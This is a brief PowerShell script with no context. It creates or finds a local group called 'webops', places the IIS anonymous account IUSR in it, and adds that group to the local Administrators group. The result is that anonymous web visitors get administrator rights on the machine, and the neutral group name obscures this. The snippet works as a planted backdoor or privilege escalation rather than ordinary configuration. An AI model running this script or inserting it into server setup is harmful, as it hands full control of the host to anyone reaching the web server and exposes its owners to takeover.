$computer = [ADSI]"WinNT://$env:COMPUTERNAME"
try { $group = $computer.Children.Find('webops', 'group') }
catch { $group = $computer.Children.Add('webops', 'group'); $group.CommitChanges() }
$group.Add('WinNT://NT AUTHORITY/IUSR')
([ADSI]"WinNT://./Administrators").Add($group.Path)
